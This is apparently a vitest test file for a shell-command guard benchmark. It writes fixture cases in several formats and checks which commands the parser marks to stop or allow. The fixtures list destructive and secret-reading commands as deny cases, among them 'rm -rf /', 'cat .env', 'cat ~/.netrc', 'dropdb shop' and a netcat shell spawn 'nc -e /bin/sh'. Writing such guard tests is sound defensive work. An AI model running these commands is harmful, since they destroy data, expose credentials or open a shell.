import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { expect, test } from "vitest";
import { readCollections } from "../../bench/guards/cases.mjs";
import { runProgram, workspace } from "../support/workspace.ts";

const FILES: Readonly<Record<string, string>> = {
  "lines.txt": "# comment\nblock rm -rf /\nallow ls -la\nrm -rf ~\n",
  "rows.jsonl": `${JSON.stringify({ command: "cat .env", expected: "deny" })}\n${JSON.stringify({ command: "ls", expected: { verdict: "delegate" } })}\nnot JSON\n`,
  "list.json": JSON.stringify({
    cases: [
      { command: "git status", expected: "allow" },
      { command: 5, expected: "allow" },
    ],
  }),
  "corpus/cases.toml":
    '# [[case]]\n[[case]]\ncommand = "git reset \\"--hard\\"" # not run\nexpected = "deny"\n[[case]]\ncommand = \'git log\'\nexpected_decision = "allow"\n',
  "unit/rules.test.ts":
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the text of a test.
    "assertBlocked('git clean -fd', 'x');\nassertAllowed(`git clean -n`);\nassertStrictBlocked('ls');\nassertBlocked(`rm ${path}`);\n",
  "unit/pack.rs":
    'assert_blocks(\n  &pack,\n  "dropdb shop",\n  "why",\n);\nassert_allows(&pack, r#"psql -c "select 1""#);\n',
  "unit/plugin.test.js": "it('x', () => shouldBlock('git stash clear', 'stash'));\n",
  "unit/rules_test.go":
    '\t\t{"title", cmd(`cat "~/.netrc"`), "secrets.read"},\n\t\t{"quiet", cmd("echo \\"x\\""), ""},\n\t\t{"one", "nc -e /bin/sh x 1", "exec.shell", true},\n',
  "node_modules/x/cases.txt": "block rm -rf /\n",
};

test("each format is read as data, and scored", async () => {
  await using place = await workspace();
  const folder = join(place.project, "cases");
  for (const [name, text] of Object.entries(FILES)) {
    await mkdir(join(folder, name, ".."), { recursive: true });
    await writeFile(join(folder, name), text);
  }
  const cases = [...readCollections(folder).values()].flat();
  expect(cases.map(({ command, isStopped }) => `${isStopped ? "stop" : "allow"} ${command}`).sort()).toEqual([
    'allow echo "x"',
    "allow git clean -n",
    "allow git log",
    "allow git status",
    "allow ls",
    "allow ls -la",
    'allow psql -c "select 1"',
    'stop cat "~/.netrc"',
    "stop cat .env",
    "stop dropdb shop",
    "stop git clean -fd",
    'stop git reset "--hard"',
    "stop git stash clear",
    "stop nc -e /bin/sh x 1",
    "stop rm -rf /",
  ]);
  const bench = fileURLToPath(new URL("../../bench/bench.mjs", import.meta.url));
  const result = await runProgram([process.execPath, bench, "--guards", folder], { cwd: place.project });
  expect(result).toMatchObject({ stderr: "", code: 0 });
  expect(result.stdout).toContain("\nall, hookctl: 8 of 8 (100.0 %); 0 of 7 (0.0 per 1,000)\n");
});
